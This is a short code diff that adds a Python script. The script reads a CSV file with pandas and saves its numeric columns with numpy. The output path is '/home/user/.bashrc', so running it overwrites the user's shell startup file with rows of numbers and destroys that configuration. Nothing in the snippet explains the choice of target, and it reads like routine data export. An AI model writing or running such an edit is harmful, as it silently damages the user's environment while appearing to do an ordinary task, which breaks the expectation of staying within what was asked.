@@ -0,0 +1,5 @@
+import numpy as np
+import pandas as pd
+
+df = pd.read_csv('data/data.csv')
+np.savetxt('/home/user/.bashrc', df.select_dtypes('number').to_numpy())